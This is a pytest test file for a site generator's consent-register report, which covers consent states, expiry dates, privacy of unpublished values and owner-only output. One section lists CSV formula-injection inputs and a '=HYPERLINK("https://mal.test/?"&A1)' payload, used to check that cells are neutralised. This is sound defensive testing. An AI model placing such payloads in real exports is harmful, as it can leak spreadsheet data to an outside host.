"""The register of consents: what it tells, what it keeps to itself, and that no spreadsheet runs it."""

from __future__ import annotations

import csv
import io
import json
import re
import stat
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from folders import PAGE, PRIVATE, TESTIMONIAL, Changes, changed, write_folder
from hypothesis import given
from hypothesis import strategies as st

from generator import build
from generator.build import Request
from generator.cli import commands
from generator.private.consent.permissions import Standing
from generator.private.consent.texts import words_in
from generator.private.format.models import Item
from generator.private.proof.withheld import shown_in
from generator.private.reading.content import read_content
from generator.private.register import Entry, Register, Why, register
from generator.private.register.as_csv import harmless

ROOT = Path(__file__).resolve().parent.parent
DEMO = ROOT / "tests" / "sites" / "demo" / "content"
TODAY = date(2026, 11, 22)
PHOTO = {"photo": {"file": "a.png", "alt": "Un dessin"}}

Report = Callable[..., Result]


@pytest.fixture
def report(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Report:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("CI", raising=False)

    def call(*arguments: str, content: Path = DEMO, today: date = TODAY, lang: str = "en") -> Result:
        options = ["--content", str(content), "--today", today.isoformat(), "--lang", lang, *arguments]
        done = CliRunner().invoke(commands, ["consent", "report", *options], prog_name="portal")
        assert done.exception is None or isinstance(done.exception, SystemExit), done.output
        return done

    return call


def registered(folder: Path, today: date = TODAY) -> Register:
    reading = read_content(folder)
    request = Request(folder, folder / "site", folder, today, keep_going=True)
    return register(reading, build.check(request, reading), today)


def of(tmp_path: Path, changes: Changes, today: date = TODAY) -> dict[Item, Entry]:
    """The agreements of the person p1."""
    folder = write_folder(tmp_path / "content", changed({"site": PRIVATE, **changes}))
    return {one.item: one for one in registered(folder, today).records[0].agreements}


STATES: dict[str, tuple[dict[str, Any], Item, Standing, Why | None]] = {
    "in force": ({}, Item.FIRST_NAME, Standing.IN_FORCE, None),
    "refused": ({"city": "Albi"}, Item.CITY, Standing.REFUSED, Why.NOT_AGREED),
    "no consent at all": ({"consent": None}, Item.FIRST_NAME, Standing.REFUSED, Why.NOT_AGREED),
    "withdrawn": ({"consent.withdrawn_on": "2026-11-22"}, Item.FIRST_NAME, Standing.WITHDRAWN, Why.WITHDRAWN),
    "withdrawn by itself": (
        {"consent.items.first_name.withdrawn_on": "2026-11-22"},
        Item.FIRST_NAME,
        Standing.WITHDRAWN,
        Why.WITHDRAWN,
    ),
    "withdrawn tomorrow": ({"consent.withdrawn_on": "2026-11-23"}, Item.FIRST_NAME, Standing.IN_FORCE, None),
    "expired": ({"consent.expires_on": "2026-11-22"}, Item.FIRST_NAME, Standing.EXPIRED, Why.EXPIRED),
    "nothing to show": ({"consent.publish.city": True}, Item.CITY, Standing.IN_FORCE, Why.NO_VALUE),
    "last without first": (
        {"name.last": "Petit", "consent.publish": {"last_name": True, "age": True}, "age": 50},
        Item.LAST_NAME,
        Standing.IN_FORCE,
        Why.NO_FIRST_NAME,
    ),
    "not approved": (
        {**PAGE, "testimonials.0": {**TESTIMONIAL, "approved_on": None}},
        Item.TESTIMONIAL,
        Standing.IN_FORCE,
        Why.NOT_APPROVED,
    ),
    "not from a public source": (
        {**PAGE, "consent.basis": "public-source"},
        Item.TESTIMONIAL,
        Standing.IN_FORCE,
        Why.NOT_FROM_A_PUBLIC_SOURCE,
    ),
}


@pytest.mark.parametrize("case", STATES)
def test_states_and_reasons(case: str, tmp_path: Path) -> None:
    changes, item, standing, why = STATES[case]
    found = of(tmp_path, {"p1": changes})[item]
    assert (found.standing, found.why, found.published) == (standing, why, why is None)


BROKEN: dict[str, tuple[dict[str, Any], Why]] = {
    "no evidence": ({"consent.evidence": None}, Why.NO_EVIDENCE),
    "no day": ({"consent.given_on": None}, Why.NO_EVIDENCE),
    "a minor": ({"minor": True}, Why.NO_GUARDIAN),
    "a day to come": ({"consent.given_on": "2027-01-01"}, Why.NOT_YET),
}


@pytest.mark.parametrize("case", BROKEN)
def test_an_error_of_her_file_closes_it_whole(case: str, tmp_path: Path) -> None:
    """As a build with --keep-going does; what is wrong is told by `check`."""
    changes, why = BROKEN[case]
    age = {
        "age": 50,
        "consent.items.age": {"given_on": "2026-02-02", "evidence": "fiche 2"},
        "consent.publish.age": True,
    }
    found = registered(write_folder(tmp_path / "content", changed({"p1": {**changes, **age}})))
    assert (found.records[0].broken, found.records[0].name) == (True, None)
    told = {one.item: one.why for one in found.records[0].agreements}
    assert told == {Item.FIRST_NAME: why, Item.AGE: why if case == "a minor" else Why.BROKEN}
    assert Why.BROKEN in {one.why for one in found.withheld}


def test_a_text_that_names_somebody(tmp_path: Path) -> None:
    hidden = {"name": {"first": "Zélie"}, "consent": None}
    found = of(tmp_path, {"p1": {"bio": "Avec Zélie.", "consent.publish.bio": True}, "p2": hidden})
    assert (found[Item.BIO].standing, found[Item.BIO].why) == (Standing.IN_FORCE, Why.NAMES_SOMEBODY)


@pytest.mark.parametrize(
    ("own", "ends"),
    [
        ({}, date(2029, 1, 1)),
        ({"consent.expires_on": "2028-05-05"}, date(2028, 5, 5)),
        ({"consent.expires_on": "2028-05-05", "consent.withdrawn_on": "2027-02-02"}, date(2027, 2, 2)),
        ({"consent.items.first_name.expires_on": "2027-03-03"}, date(2027, 3, 3)),
        ({"consent.items.first_name": {"given_on": "2026-10-10", "evidence": "fiche 9"}}, date(2029, 10, 10)),
    ],
)
def test_the_day_on_which_it_ends(own: dict[str, Any], ends: date, tmp_path: Path) -> None:
    folder = write_folder(tmp_path / "content", changed({"p1": own}))
    found = registered(folder)
    assert found.records[0].agreements[0].ends_on == found.next_lapse == ends
    day_before = date.fromordinal(ends.toordinal() - 1)
    assert registered(folder, day_before).records[0].name == "Inès"
    assert registered(folder, ends).records[0].name is None


def test_what_ends_within_sixty_days(tmp_path: Path) -> None:
    expiry = {"consent.expires_on": "2027-01-21", "age": 50, "consent.publish.age": True}
    folder = write_folder(tmp_path / "content", changed({"p1": expiry}))
    assert [one.item for _, one in registered(folder, date(2026, 11, 22)).ending_soon] == [Item.FIRST_NAME, Item.AGE]
    assert registered(folder, date(2026, 11, 21)).ending_soon == ()


def test_evidence_that_names_her_is_not_told(tmp_path: Path, report: Report) -> None:
    folder = write_folder(tmp_path / "content", changed({"p1": {"consent.evidence": "fiche d'Inès"}, "site": PRIVATE}))
    assert registered(folder).records[0].broken  # an error: `check` says so
    for name in ("text", "csv", "json"):
        assert "fiche" not in report("--format", name, content=folder).stdout


# -- nothing that is not published -----------------------------------------------------------------


def secrets() -> set[str]:
    """Every value of a person's file in the demo that is not published on `TODAY`, as the audit works it out."""
    content = read_content(DEMO).content
    found, public = set(), set()
    for folder in content.cohorts.values():
        shown = shown_in(content, folder, TODAY)
        for key, person in folder.people.items():
            for route, value in words_in(person):
                name = ".".join(str(part) for part in route[:2]) if route[0] == "name" else str(route[0])
                told = name in shown[key].fields or (name == "testimonials" and route[1] in shown[key].testimonials)
                if route[-1] != "evidence" and route[0] != "consent":
                    (public if told else found).add(str(value))
    return found - public


@pytest.mark.parametrize("name", ["text", "csv", "json"])
@pytest.mark.parametrize("lang", ["fr", "en"])
def test_no_value_that_is_not_published_is_in_it(name: str, lang: str, report: Report) -> None:
    hidden = secrets()
    assert len(hidden) > 20
    text = " ".join(report("--format", name, lang=lang).stdout.split())
    assert {one for one in hidden if re.search(rf"\b{re.escape(' '.join(one.split()))}\b", text)} == set()


@pytest.mark.parametrize("name", ["text", "csv", "json"])
def test_in_a_workflow_it_does_not_say_where_proofs_are(
    name: str, report: Report, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert "fiche A-01" in report("--format", name).stdout
    monkeypatch.setenv("CI", "true")
    done = report("--format", name)
    assert "celestine" in done.stdout
    assert "fiche" not in done.stdout


# -- the three forms -------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_the_text_fits_a_terminal(lang: str, report: Report) -> None:
    lines = report(lang=lang).stdout.splitlines()
    assert max(map(len, lines)) <= 80
    assert lines[0] == ("Les accords au 22 novembre 2026" if lang == "fr" else "Consents on 22 November 2026")


def test_the_text_is_grouped(report: Report) -> None:
    text = report().stdout
    parts = re.split(r"^── (.*?) ─+$", text, flags=re.MULTILINE)
    assert parts[1::2] == ["Cohort colline", "Cohort riviere", "Ends within 60 days", "Left out of the site"]
    assert "colline/josette – nothing published" in parts[2]
    assert "riviere/lubin – Lubin" in parts[4]
    assert parts[6].strip() == "2026-12-31, colline/yvonne: first name, occupation and testimonials"
    assert "content/cohorts/riviere/participants/maelle.yml:15\n      testimonial: no wording was approved yet" in text


def test_one_cohort(report: Report) -> None:
    done = report("--cohort", "riviere", "--format", "json")
    document = json.loads(done.stdout)
    assert {one["cohort"] for one in document["people"]} == {"riviere"}
    assert {one["file"].split("/")[2] for one in document["withheld"]} == {"riviere"}
    assert document["next_lapse"] == "2027-06-30"
    wrong = report("--cohort", "rivere")
    assert (wrong.exit_code, "Did you mean “riviere”?" in wrong.stderr) == (2, True)


def test_json_says_what_is_described(report: Report) -> None:
    document = json.loads(report("--format", "json").stdout)
    told = (ROOT / "docs" / "consentements.md").read_text(encoding="utf-8")

    def keys(value: Any) -> set[str]:
        if isinstance(value, list):
            return set().union(*map(keys, value))
        return set(value) | set().union(*map(keys, value.values())) if isinstance(value, dict) else set()

    assert {one for one in keys(document) if f"`{one}`" not in told} == set()
    codes = {one.value for one in Why} | {one.value.replace(" ", "-") for one in Standing}
    assert {one for one in codes if f"`{one}`" not in told} == set()
    assert document["next_lapse"] == "2026-12-31"
    celestine = next(one for one in document["people"] if one["person"] == "celestine")
    assert celestine["items"][0] == {
        "item": "first_name",
        "state": "in-force",
        "published": True,
        "why": None,
        "basis": "consent",
        "given_on": "2026-02-03",
        "ends_on": "2029-02-03",
        "evidence": "classeur des accords, fiche A-01",
    }


@pytest.mark.parametrize(("lang", "separator"), [("fr", ";"), ("en", ",")])
def test_csv_for_the_language(lang: str, separator: str, report: Report) -> None:
    data = report("--format", "csv", lang=lang).stdout_bytes
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\n") == data.count(b"\r\n")
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator, strict=True))
    assert {len(row) for row in rows} == {12}
    assert all(re.fullmatch(rf'"[^"]*"({separator}"[^"]*"){{11}}', line) for line in text.splitlines())
    assert len(rows) > 60


DANGEROUS = [
    "=1+1",
    "+33 6",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1",
    '"=1',
    "'=1",
    "« =1",
    "\u200b=1",
    "\ufeff=1",
    "＝1",
    "＠a",
    "\u00a0-1",
    "\tx",
]


@pytest.mark.parametrize("cell", DANGEROUS, ids=ascii)
def test_a_formula_is_made_harmless(cell: str) -> None:
    assert harmless(cell).startswith("'")
    assert harmless(cell).replace("'", "") == cell.replace("'", "")
    for separator in (",", ";"):
        assert harmless(f"fiche 1{separator}{cell}").startswith(f"fiche 1{separator}'")


@pytest.mark.parametrize(
    "cell", ["", "fiche 1", "2026-11-22", "a=b", "a - b", "Élodie", "1-2", "'a", "fiche 1 ; suite"]
)
def test_other_cells_stay(cell: str) -> None:
    assert harmless(cell) == cell


@given(st.text(alphabet="=+-@\t\r ;,'\"aé＝\u200b\u00a0\n", max_size=12))
def test_no_cell_begins_like_a_formula(cell: str) -> None:
    """Whichever separator a spreadsheet takes."""
    for part in re.split("[,;\t\r\n]", harmless(cell)):
        bare = part.lstrip(' "“”«»\u200b\u00a0\ufeff')
        assert not bare.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


def test_a_dangerous_proof_reaches_the_table_harmless(tmp_path: Path, report: Report) -> None:
    proof = '=HYPERLINK("https://mal.test/?"&A1)'
    folder = write_folder(tmp_path / "content", changed({"p1": {"consent.evidence": proof}}))
    rows = list(csv.reader(io.StringIO(report("--format", "csv", content=folder).stdout_bytes.decode("utf-8-sig"))))
    assert rows[1][9] == f"'{proof}"


# -- the file, and the command ---------------------------------------------------------------------


def test_it_is_written_for_its_owner_only(report: Report, tmp_path: Path) -> None:
    for _ in range(2):
        done = report("--format", "csv", "--output", "registre.csv")
        assert done.exit_code == 0
    written = tmp_path / "registre.csv"
    assert stat.S_IMODE(written.stat().st_mode) == 0o600
    assert written.read_bytes() == report("--format", "csv").stdout_bytes
    assert list(tmp_path.iterdir()) == [written]


@pytest.mark.parametrize("place", ["site", "build/docs", "content/cohorts"])
def test_it_is_not_written_where_it_would_be_published(place: str, report: Report, tmp_path: Path) -> None:
    content = write_folder(tmp_path / "content", changed({}))
    (tmp_path / place).mkdir(parents=True, exist_ok=True)
    (tmp_path / "site").mkdir(exist_ok=True)
    (tmp_path / "site" / "404.html").write_text('<meta name="generator" content="portal">', encoding="utf-8")
    (tmp_path / "build/docs").mkdir(parents=True, exist_ok=True)
    (tmp_path / "build/docs/.portal").write_text("", encoding="utf-8")
    done = report("--output", f"{place}/registre.txt", content=content)
    assert done.exit_code == 2
    assert not (tmp_path / place / "registre.txt").exists()


def test_without_a_programme_there_is_no_report(report: Report, tmp_path: Path) -> None:
    done = report(content=tmp_path / "nowhere")
    assert done.exit_code == 1
    assert "missing-content" in done.stdout


def test_broken_files_are_told_and_the_rest_as_well(report: Report, tmp_path: Path) -> None:
    folder = write_folder(
        tmp_path / "content", changed({"p1": {"phto": "x"}, "p2": {}, "cohorts/autre/cohort.yml": {"status": "fini"}})
    )
    done = report(content=folder)
    assert done.exit_code == 0
    assert "essai/p1 – nothing published\n    the file has errors" in done.stdout
    assert "essai/p2 – Inès" in done.stdout
    assert "content/cohorts/autre/cohort.yml\n      file: the file has errors" in done.stdout


def test_check_ends_with_the_next_lapse(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_folder(tmp_path / "content", changed({"p1": {"consent.expires_on": "2027-03-01"}}))
    monkeypatch.chdir(tmp_path)

    def last(*arguments: str) -> str:
        done = CliRunner().invoke(commands, ["check", "--today", "2026-11-22", *arguments], prog_name="portal")
        return done.stdout.splitlines()[-1] if done.stdout else ""

    assert last() == "Prochain accord qui prend fin\u00a0: le 1er mars 2027."
    assert last("--lang", "en") == "Next end of an agreement: 1 March 2027."
    assert last("-q") == ""
    assert "agreement" not in last("--format", "json", "--lang", "en")
    (tmp_path / "content/cohorts/essai/participants/p1.yml").write_text("roles: [mentee]\n", encoding="utf-8")
    assert "2027" not in last()
